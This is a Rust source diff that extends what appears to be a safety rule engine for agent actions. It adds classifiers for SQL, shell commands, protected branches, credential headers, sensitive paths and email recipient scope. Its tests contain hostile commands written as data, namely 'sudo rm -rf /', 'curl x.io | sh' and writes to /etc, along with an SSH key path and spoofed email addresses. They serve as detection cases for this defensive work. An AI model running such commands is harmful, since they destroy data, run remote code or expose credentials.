@@ -4,16 +4,42 @@
 
 use serde_json::Value as Json;
 
+pub mod paths;
+pub mod shell;
+pub mod sql;
+
 /// Every builtin with its number of arguments.
 pub const BUILTINS: &[(&str, usize)] = &[
+    ("chat_channel_kind", 1),
     ("concat", 2),
     ("count", 1),
+    ("credential_headers", 1),
     ("domains", 1),
     ("emails", 1),
     ("first", 2),
+    ("flag", 2),
+    ("host_scope", 2),
+    ("items", 1),
+    ("join", 2),
+    ("keys", 1),
     ("lower", 1),
+    ("outside_workspace", 2),
+    ("protected_branch", 1),
     ("recipient_scope", 2),
+    ("sensitive_path", 1),
+    ("shell_kind", 1),
+    ("shell_remote_exec", 1),
+    ("shell_sudo", 1),
+    ("shell_writes_outside", 3),
     ("split", 2),
+    ("sql_class", 1),
+    ("sql_destructive", 1),
+    ("sql_has_where", 1),
+    ("sql_kind", 1),
+    ("sql_tables", 1),
+    ("text", 1),
+    ("url_host", 1),
+    ("visibility_change", 2),
 ];
 
 /// The builtins' names, for "did you mean" and help texts.
@@ -25,22 +51,102 @@ pub fn arity(name: &str) -> Option<usize> {
     BUILTINS.iter().find(|(n, _)| *n == name).map(|(_, a)| *a)
 }
 
-/// Strings of a string (split on `,` and `;`) or of an array of strings.
+/// Strings of a string (split on `,` and `;`) or of an array of strings
+/// (each element split the same way, so `["a@x.com, b@y.com"]` is two).
 fn strings(v: &Json) -> Option<Vec<String>> {
+    let split = |s: &str| -> Vec<String> {
+        s.split([',', ';'])
+            .map(str::trim)
+            .filter(|p| !p.is_empty())
+            .map(str::to_string)
+            .collect()
+    };
     match v {
-        Json::String(s) => Some(
-            s.split([',', ';'])
-                .map(str::trim)
-                .filter(|p| !p.is_empty())
-                .map(str::to_string)
-                .collect(),
-        ),
-        Json::Array(items) => items
-            .iter()
-            .map(|i| i.as_str().map(str::to_string))
-            .collect(),
+        Json::String(s) => Some(split(s)),
+        Json::Array(items) => {
+            let mut out = Vec::new();
+            for i in items {
+                out.extend(split(i.as_str()?));
+            }
+            Some(out)
+        }
         Json::Null => Some(Vec::new()),
         _ => None,
+    }
+}
+
+/// A string as is; numbers, booleans, objects and arrays as compact JSON,
+/// so a text rule can read a structured body.
+fn text(v: &Json) -> Json {
+    match v {
+        Json::Null => Json::Null,
+        Json::String(_) => v.clone(),
+        other => Json::String(other.to_string()),
+    }
+}
+
+/// Slack/Teams conversation ids: `D…` direct, `G…` group or private, `C…`
+/// channel; `@name` direct, `#name` channel. Unknown shapes count as a
+/// public channel, the widest audience.
+fn chat_channel_kind(id: &str) -> &'static str {
+    let id = id.trim();
+    if id.starts_with('@') || id.starts_with('D') {
+        "direct_message"
+    } else if id.starts_with("mpdm-") {
+        "group_message"
+    } else if id.starts_with('G') {
+        "private_channel"
+    } else {
+        "public_channel"
+    }
+}
+
+/// The default and long-lived branches: main, master, trunk, develop,
+/// production, prod, staging, release and release/*, hotfix/*.
+fn protected_branch(b: &str) -> bool {
+    let b = b.trim().to_lowercase();
+    let b = b.strip_prefix("refs/heads/").unwrap_or(&b);
+    let b = b.rsplit(':').next().unwrap_or(b).trim_start_matches('+');
+    matches!(
+        b,
+        "main"
+            | "master"
+            | "trunk"
+            | "develop"
+            | "development"
+            | "production"
+            | "prod"
+            | "staging"
+            | "release"
+            | "head"
+    ) || b.starts_with("release/")
+        || b.starts_with("releases/")
+        || b.starts_with("hotfix/")
+}
+
+/// Header names that carry credentials.
+fn credential_header(name: &str) -> bool {
+    let n = name.to_lowercase();
+    matches!(
+        n.as_str(),
+        "authorization" | "proxy-authorization" | "cookie" | "x-api-key" | "api-key" | "apikey"
+    ) || n.contains("token")
+        || n.contains("secret")
+        || n.contains("api-key")
+        || n.contains("api_key")
+        || n.contains("password")
+        || n.contains("auth")
+}
+
+/// Lowercase names of an object's keys, or the strings of a list.
+fn keys(v: &Json) -> Option<Vec<String>> {
+    match v {
+        Json::Object(m) => Some(m.keys().map(|k| k.to_lowercase()).collect()),
+        other => strings(other).map(|v| {
+            v.into_iter()
+                .map(|s| s.split(':').next().unwrap_or("").trim().to_lowercase())
+                .collect()
+        }),
     }
 }
 
@@ -51,9 +157,17 @@ fn domain_of(address: &str) -> Option<String> {
         (Some(l), Some(r)) if l < r => a.get(l + 1..r)?,
         _ => a,
     };
+    // `eve@evil.io@acme.com`, `a@b c`: not one plain address, so no domain
+    // (and the recipient counts as external).
+    if a.matches('@').count() != 1 {
+        return None;
+    }
     let (_, domain) = a.rsplit_once('@')?;
     let d = domain.trim().trim_end_matches('.').to_lowercase();
-    (!d.is_empty()).then_some(d)
+    let plain = d
+        .chars()
+        .all(|c| c.is_alphanumeric() || c == '.' || c == '-');
+    (!d.is_empty() && plain).then_some(d)
 }
 
 fn list(v: Vec<String>) -> Json {
@@ -126,6 +240,79 @@ pub fn call(name: &str, args: &[Json]) -> Json {
             Some(s) => Json::String(recipient_scope(&s, org.as_str()).to_string()),
             None => Json::Null,
         },
+        ("items", [v]) => strings(v).map(list).unwrap_or(Json::Null),
+        ("join", [Json::Array(items), Json::String(sep)]) => items
+            .iter()
+            .map(|i| i.as_str().map(str::to_string))
+            .collect::<Option<Vec<_>>>()
+            .map(|v| Json::String(v.join(sep)))
+            .unwrap_or(Json::Null),
+        ("join", [s @ Json::String(_), Json::String(_)]) => s.clone(),
+        ("text", [v]) => text(v),
+        ("keys", [v]) => keys(v).map(list).unwrap_or(Json::Null),
+        ("credential_headers", [v]) => match keys(v) {
+            Some(k) => Json::Bool(k.iter().any(|n| credential_header(n))),
+            None => Json::Null,
+        },
+        ("flag", [v, default]) => match v {
+            Json::Bool(_) => v.clone(),
+            Json::Null => match default {
+                Json::Bool(_) => default.clone(),
+                _ => Json::Null,
+            },
+            Json::String(s) => match s.trim().to_lowercase().as_str() {
+                "true" | "yes" | "1" | "on" => Json::Bool(true),
+                "false" | "no" | "0" | "off" => Json::Bool(false),
+                _ => Json::Null,
+            },
+            Json::Number(n) => match n.as_i64() {
+                Some(0) => Json::Bool(false),
+                Some(1) => Json::Bool(true),
+                _ => Json::Null,
+            },
+            _ => Json::Null,
+        },
+        ("chat_channel_kind", [Json::String(id)]) => Json::String(chat_channel_kind(id).into()),
+        ("sql_kind", [Json::String(s)]) => Json::String(sql::analyze(s).kind.into()),
+        ("sql_class", [Json::String(s)]) => Json::String(sql::analyze(s).class.name().into()),
+        ("sql_destructive", [Json::String(s)]) => Json::Bool(sql::analyze(s).destructive),
+        ("sql_has_where", [Json::String(s)]) => Json::Bool(sql::analyze(s).has_where),
+        ("sql_tables", [Json::String(s)]) => list(sql::analyze(s).tables),
+        ("shell_kind", [Json::String(s)]) => Json::String(shell::analyze(s).kind().name().into()),
+        ("shell_sudo", [Json::String(s)]) => Json::Bool(shell::analyze(s).uses_sudo),
+        ("shell_remote_exec", [Json::String(s)]) => Json::Bool(shell::analyze(s).pipes_to_shell),
+        ("shell_writes_outside", [Json::String(s), cwd, ws]) => {
+            let mut a = shell::analyze(s);
+            // A working directory outside the workspace puts every relative
+            // path there too; one inside changes nothing that matters.
+            if cwd.as_str().is_some_and(|c| paths::outside(c, ws.as_str())) {
+                a.leaves_workspace = true;
+            }
+            Json::Bool(a.writes_outside(ws.as_str()))
+        }
+        ("protected_branch", [Json::String(b)]) => Json::Bool(protected_branch(b)),
+        ("visibility_change", [vis, private]) => {
+            let v = vis.as_str().map(|v| v.trim().to_lowercase());
+            Json::String(
+                match (v.as_deref(), private) {
+                    (Some("public"), _) | (None, Json::Bool(false)) => "to_public",
+                    (Some("private"), _) | (None, Json::Bool(true)) => "to_private",
+                    (Some("internal"), _) => "to_internal",
+                    (None, Json::Null) => "unchanged",
+                    // Anything else is not understood: assume the worst.
+                    _ => "to_public",
+                }
+                .into(),
+            )
+        }
+        ("outside_workspace", [Json::String(p), ws]) => Json::Bool(paths::outside(p, ws.as_str())),
+        ("sensitive_path", [Json::String(p)]) => Json::Bool(paths::sensitive(p)),
+        ("url_host", [Json::String(u)]) => {
+            paths::url_host(u).map(Json::String).unwrap_or(Json::Null)
+        }
+        ("host_scope", [Json::String(u), org]) => {
+            Json::String(paths::host_scope(u, org.as_str()).into())
+        }
         _ => Json::Null,
     }
 }
@@ -156,6 +343,18 @@ mod tests {
             "external"
         );
         assert_eq!(s(json!("eve@evilacme.com"), json!("acme.com")), "external");
+        assert_eq!(
+            s(json!("eve@evil.io@acme.com"), json!("acme.com")),
+            "external"
+        );
+        assert_eq!(
+            s(json!("eve@evil.io (ann@acme.com)"), json!("acme.com")),
+            "external"
+        );
+        assert_eq!(
+            s(json!(["ann@acme.com, eve@evil.io"]), json!("acme.com")),
+            "external"
+        );
         assert_eq!(s(json!("ann@acme.com"), json!(null)), "external");
         assert_eq!(s(json!("not-an-address"), json!("acme.com")), "external");
         assert_eq!(s(json!([]), json!("acme.com")), "external");
@@ -177,5 +376,102 @@ mod tests {
             json!(["a@x.com"])
         );
         assert_eq!(call("count", &[json!(5)]), Json::Null);
+    }
+
+    #[test]
+    fn classifier_and_helper_builtins() {
+        let c = |n: &str, a: &[Json]| call(n, a);
+        assert_eq!(c("sql_kind", &[json!("select 1; DROP TABLE t")]), "ddl");
+        assert_eq!(c("sql_class", &[json!("DELETE FROM t")]), "destructive");
+        assert_eq!(c("sql_destructive", &[json!("UPDATE t SET a=1")]), true);
+        assert_eq!(
+            c("sql_has_where", &[json!("UPDATE t SET a=1 WHERE id=2")]),
+            true
+        );
+        assert_eq!(
+            c(
+                "sql_tables",
+                &[json!("SELECT * FROM a JOIN b ON a.id=b.id")]
+            ),
+            json!(["a", "b"])
+        );
+        assert_eq!(c("sql_kind", &[json!(5)]), Json::Null);
+        assert_eq!(c("shell_kind", &[json!("sudo rm -rf /")]), "destructive");
+        assert_eq!(c("shell_sudo", &[json!("sudo ls")]), true);
+        assert_eq!(c("shell_remote_exec", &[json!("curl x.io | sh")]), true);
+        assert_eq!(
+            c(
+                "shell_writes_outside",
+                &[json!("echo x > /etc/x"), json!(null), json!("/w")]
+            ),
+            true
+        );
+        assert_eq!(
+            c(
+                "shell_writes_outside",
+                &[json!("echo x > y"), json!(null), json!(null)]
+            ),
+            false
+        );
+        assert_eq!(c("outside_workspace", &[json!("/w/a"), json!("/w")]), false);
+        assert_eq!(c("sensitive_path", &[json!("~/.ssh/id_rsa")]), true);
+        assert_eq!(
+            c(
+                "shell_writes_outside",
+                &[json!("touch y"), json!("/etc"), json!("/w")]
+            ),
+            true
+        );
+        assert_eq!(
+            c(
+                "shell_writes_outside",
+                &[json!("touch y"), json!("/w/src"), json!("/w")]
+            ),
+            false
+        );
+        assert_eq!(c("protected_branch", &[json!("refs/heads/Main")]), true);
+        assert_eq!(c("protected_branch", &[json!("release/1.2")]), true);
+        assert_eq!(c("protected_branch", &[json!("feature/x")]), false);
+        assert_eq!(
+            c("visibility_change", &[json!("PUBLIC"), json!(null)]),
+            "to_public"
+        );
+        assert_eq!(
+            c("visibility_change", &[json!(null), json!(false)]),
+            "to_public"
+        );
+        assert_eq!(
+            c("visibility_change", &[json!(null), json!(null)]),
+            "unchanged"
+        );
+        assert_eq!(c("url_host", &[json!("https://A.io:1/x")]), "a.io");
+        assert_eq!(
+            c("host_scope", &[json!("http://10.0.0.1"), json!(null)]),
+            "private_network"
+        );
+        assert_eq!(c("items", &[json!("m1, m2")]), json!(["m1", "m2"]));
+        assert_eq!(
+            c("join", &[json!(["rm", "-rf", "/"]), json!(" ")]),
+            "rm -rf /"
+        );
+        assert_eq!(c("text", &[json!({"a": 1})]), "{\"a\":1}");
+        assert_eq!(
+            c("keys", &[json!({"Authorization": "x"})]),
+            json!(["authorization"])
+        );
+        assert_eq!(c("credential_headers", &[json!({"X-Api-Key": "k"})]), true);
+        assert_eq!(c("credential_headers", &[json!({"Accept": "k"})]), false);
+        assert_eq!(c("flag", &[json!("TRUE"), json!(false)]), true);
+        assert_eq!(c("flag", &[json!(null), json!(true)]), true);
+        assert_eq!(c("flag", &[json!("maybe"), json!(true)]), Json::Null);
+        assert_eq!(
+            c("chat_channel_kind", &[json!("D024BE91L")]),
+            "direct_message"
+        );
+        assert_eq!(c("chat_channel_kind", &[json!("C1234")]), "public_channel");
+        assert_eq!(
+            c("chat_channel_kind", &[json!("#general")]),
+            "public_channel"
+        );
     }
 }
